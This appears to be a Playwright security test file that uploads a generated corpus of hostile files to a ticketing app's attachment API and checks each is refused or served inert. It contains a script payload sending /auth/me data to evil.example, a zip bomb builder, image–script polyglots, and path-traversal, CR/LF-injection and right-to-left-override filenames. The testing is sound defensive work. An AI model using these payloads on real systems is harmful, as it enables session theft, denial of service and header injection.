import zlib from "node:zlib";
import { expect, test } from "@playwright/test";
import { apiCall, apiLogin, createDepartment, createUser } from "../support/api";
import { BASE_URL } from "../support/env";
import { multipartBody } from "../support/uploads";

// Hostile files, generated here: each is refused with a clear error, or stored as the type its bytes
// are and served inert — only that type (nosniff), a download (or a plain image), inside a sandbox.

type Answer = { status: number; body: { id: string; originalName: string; contentType: string; size: number; error?: { code: string; message: string; fields?: Record<string, string[]> } } };

const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(24, 7)]);
const script = "<script>fetch('/api/v1/auth/me').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script>";

/** A zip with one entry, built by hand: `inflated` bytes of zeros that deflate to a few KB. */
function zipBomb(inflated: number): Buffer {
  const data = zlib.deflateRawSync(Buffer.alloc(inflated), { level: 9 });
  const name = Buffer.from("zeros.bin");
  const crc = zlib.crc32(Buffer.alloc(inflated));
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(inflated, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(inflated, 24);
  central.writeUInt16LE(name.length, 28);
  const centralAt = local.length + name.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralAt, 16);
  return Buffer.concat([local, name, data, central, name, end]);
}

const corpus = {
  svgWithScript: Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`),
  htmlPage: Buffer.from(`<!doctype html><html><body>${script}</body></html>`),
  // Valid GIF header that is also a JavaScript statement: GIF89a=…;alert(1)
  gifJsPolyglot: Buffer.concat([Buffer.from("GIF89a/*"), Buffer.from([0x01, 0x00, 0x01, 0x00, 0x00, 0xff, 0x00, 0x2c]), Buffer.from("*/=1;alert(document.domain);//"), Buffer.from([0x3b])]),
  // JPEG markers with an HTML document in a comment segment.
  jpegHtmlPolyglot: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0x00, 0x80]), Buffer.from(`<html><body>${script}</body></html>`.padEnd(126, " ")), Buffer.from([0xff, 0xd9])]),
  pdfWithJs: Buffer.from(
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n3 0 obj<</S/JavaScript/JS(app.alert('pdf js'))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
  ),
  // A DOS/PE header: what a Windows program starts with.
  exe: Buffer.concat([Buffer.from("MZ"), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from("PE\0\0"), Buffer.alloc(200)]),
  zipBomb: zipBomb(64 * 1024 * 1024),
};

let token: string;
let ticketId: string;

test.beforeAll(async () => {
  const department = await createDepartment();
  const user = await createUser("member", { departmentId: department.id });
  token = await apiLogin(user.username, user.password);
  const ticket = await apiCall<{ id: string }>("POST", "/tickets", token, { title: "Hostile files", description: "Corpus", priority: "low" });
  expect(ticket.status).toBe(201);
  ticketId = ticket.body.id;
});

async function send(body: Buffer, contentType: string): Promise<Answer> {
  const res = await fetch(`${BASE_URL}/api/v1/tickets/${ticketId}/attachments`, { method: "POST", headers: { authorization: `Bearer ${token}`, "content-type": contentType }, body: new Uint8Array(body) });
  return { status: res.status, body: await res.json() };
}

/** Upload with a plain `filename="…"` (as browsers and fetch send it). */
async function upload(name: string, bytes: Buffer): Promise<Answer> {
  const form = new FormData();
  form.append("file", new Blob([new Uint8Array(bytes)], { type: "application/octet-stream" }), name);
  const res = await fetch(`${BASE_URL}/api/v1/tickets/${ticketId}/attachments`, { method: "POST", headers: { authorization: `Bearer ${token}` }, body: form });
  return { status: res.status, body: await res.json() };
}

/** Upload with the name as RFC 5987 `filename*`, which carries any character, CR and LF included. */
const uploadRawName = (name: string, bytes: Buffer) => {
  const encoded = encodeURIComponent(name).replace(/['()*]/g, (c) => "%" + c.charCodeAt(0).toString(16).toUpperCase());
  const { body, contentType } = multipartBody(`filename*=UTF-8''${encoded}`, bytes);
  return send(body, contentType);
};

/** Downloads an attachment and checks it is served inert; returns its headers and bytes. */
async function downloadInert(id: string, disposition: "inline" | "attachment", contentType: string) {
  const res = await fetch(`${BASE_URL}/api/v1/attachments/${id}`, { headers: { authorization: `Bearer ${token}` } });
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toBe(contentType);
  expect(res.headers.get("x-content-type-options")).toBe("nosniff");
  expect(res.headers.get("content-security-policy")).toMatch(/^default-src 'none';.*\bsandbox$/);
  const header = res.headers.get("content-disposition") ?? "";
  expect(header.startsWith(`${disposition}; filename="`)).toBe(true);
  // The ASCII fallback is printable with no quote or backslash inside; the UTF-8 form is percent-encoded.
  expect(header).toMatch(/^(inline|attachment); filename="[\x20-\x21\x23-\x5b\x5d-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%!._~-]*$/);
  return { header, bytes: Buffer.from(await res.arrayBuffer()) };
}

test.describe("hostile upload corpus", () => {
  test("markup and programs are refused (415) whatever they are called", async () => {
    for (const [name, bytes] of [
      ["logo.svg", corpus.svgWithScript],
      ["logo.png", corpus.svgWithScript],
      ["page.html", corpus.htmlPage],
      ["innocent.png", corpus.htmlPage],
      ["report.pdf", corpus.exe],
      ["setup.exe", corpus.exe],
    ] as const) {
      const answer = await upload(name, bytes);
      expect(answer.status, name).toBe(415);
      expect(answer.body.error?.code).toBe("unsupported_type");
      expect(answer.body.error?.message).toContain("Allowed: images (PNG, JPEG, GIF, WebP), PDF");
    }
  });

  test("a polyglot is stored as the image its bytes start as, and served as that image only", async () => {
    const gif = await upload("anim.gif", corpus.gifJsPolyglot);
    expect(gif.status, JSON.stringify(gif.body)).toBe(201);
    expect(gif.body.contentType).toBe("image/gif");
    // nosniff: a <script src> pointing here is blocked by the browser (image/gif is not a script type).
    expect((await downloadInert(gif.body.id, "inline", "image/gif")).bytes.equals(corpus.gifJsPolyglot)).toBe(true);

    const jpeg = await upload("photo.jpg", corpus.jpegHtmlPolyglot);
    expect(jpeg.status).toBe(201);
    expect(jpeg.body.contentType).toBe("image/jpeg");
    await downloadInert(jpeg.body.id, "inline", "image/jpeg");

    // Named as the markup inside it: refused, the name claims active content.
    for (const [name, bytes] of [
      ["anim.gif.js", corpus.gifJsPolyglot],
      ["photo.html", corpus.jpegHtmlPolyglot],
      ["photo.svg", corpus.jpegHtmlPolyglot],
    ] as const) {
      const answer = await upload(name, bytes);
      expect(answer.status, name).toBe(415);
      expect(answer.body.error?.message).toMatch(/^The name says \.(js|html|svg) but the file's content is a (GIF|JPEG) image\./);
    }
  });

  test("a PDF with JavaScript is accepted as a PDF and only ever downloaded, in a sandbox", async () => {
    const pdf = await upload("brief.pdf", corpus.pdfWithJs);
    expect(pdf.status).toBe(201);
    expect(pdf.body.contentType).toBe("application/pdf");
    const { header } = await downloadInert(pdf.body.id, "attachment", "application/pdf");
    expect(header).toContain('filename="brief.pdf"');
  });

  test("a zero-byte file is 400 and an oversize one 413, each with its reason", async () => {
    const empty = await upload("empty.png", Buffer.alloc(0));
    expect(empty.status).toBe(400);
    expect(empty.body.error?.fields).toEqual({ file: ["The file is empty"] });
    const oversize = await upload("poster.png", Buffer.concat([png, Buffer.alloc(26 * 1024 * 1024)]));
    expect(oversize.status).toBe(413);
    expect(oversize.body.error).toEqual({ code: "too_large", message: "The file is larger than the limit of 25 MB." });
  });

  test("a body that breaks off in the middle of the file, or has no boundary, is 400 and keeps nothing", async () => {
    const { body, contentType } = multipartBody('filename="cut.pdf"', Buffer.concat([corpus.pdfWithJs, Buffer.alloc(100_000, 0x20)]));
    const cut = await send(body.subarray(0, body.length - 50_000), contentType);
    expect(cut.status).toBe(400);
    expect(cut.body.error?.message).toBe("The upload ended before the file was complete");
    const noBoundary = await send(body, "multipart/form-data");
    expect(noBoundary.status).toBe(400);
    expect(noBoundary.body.error?.message).toBe("The multipart body could not be read");
    const list = await apiCall<{ items: { originalName: string }[] }>("GET", `/tickets/${ticketId}/attachments`, token);
    expect(list.body.items.map((a) => a.originalName)).not.toContain("cut.pdf");
  });

  test("a zip bomb is stored as the small zip it is, never inflated, and served as a download", async () => {
    expect(corpus.zipBomb.length).toBeLessThan(200 * 1024);
    const zip = await upload("archive.zip", corpus.zipBomb);
    expect(zip.status, JSON.stringify(zip.body)).toBe(201);
    expect(zip.body).toMatchObject({ contentType: "application/zip", size: corpus.zipBomb.length });
    expect((await downloadInert(zip.body.id, "attachment", "application/zip")).bytes.equals(corpus.zipBomb)).toBe(true);
  });

  test("names with folders, CR/LF, a right-to-left override or a lying extension are cleaned or refused", async () => {
    const traversal = await upload("../../../etc/cron.d/job.png", png);
    expect(traversal.status).toBe(201);
    expect(traversal.body.originalName).toBe("job.png");
    expect((await downloadInert(traversal.body.id, "inline", "image/png")).header).toContain('filename="job.png"');

    const windows = await uploadRawName("..\\..\\Windows\\System32\\plan.pdf", corpus.pdfWithJs);
    expect(windows.body.originalName).toBe("plan.pdf");

    // A raw CR LF in the name would split the download's Content-Disposition header.
    const crlf = await uploadRawName("report\r\nX-Injected: yes\r\n.pdf", corpus.pdfWithJs);
    expect(crlf.status, JSON.stringify(crlf.body)).toBe(201);
    expect(crlf.body.originalName).toBe("reportX-Injected_ yes.pdf");
    const res = await fetch(`${BASE_URL}/api/v1/attachments/${crlf.body.id}`, { headers: { authorization: `Bearer ${token}` } });
    expect(res.headers.get("x-injected")).toBeNull();
    await downloadInert(crlf.body.id, "attachment", "application/pdf");

    // U+202E shows "invoice\u202Egnp.exe" as "invoiceexe.png": the override goes, and .exe is refused.
    const rtlExe = await uploadRawName("invoice\u202Egnp.exe", png);
    expect(rtlExe.status).toBe(415);
    const rtl = await uploadRawName("photo\u202Egnp.\u202Cpng", png);
    expect(rtl.status).toBe(201);
    expect(rtl.body.originalName).toBe("photognp.png");

    // Trailing dots and spaces (Windows drops them, turning "x.png. " into "x.png") and a long name that keeps its extension.
    expect((await uploadRawName("poster.png. . ", png)).body.originalName).toBe("poster.png");
    const long = await uploadRawName(`${"Ü".repeat(200)}.png`, png);
    expect(long.body.originalName.endsWith("Ü.png")).toBe(true);
    expect(Buffer.byteLength(long.body.originalName)).toBeLessThanOrEqual(255);

    // No extension: the detected type's is added, so the file opens as what it is.
    expect((await upload("scan", png)).body.originalName).toBe("scan.png");
  });
});
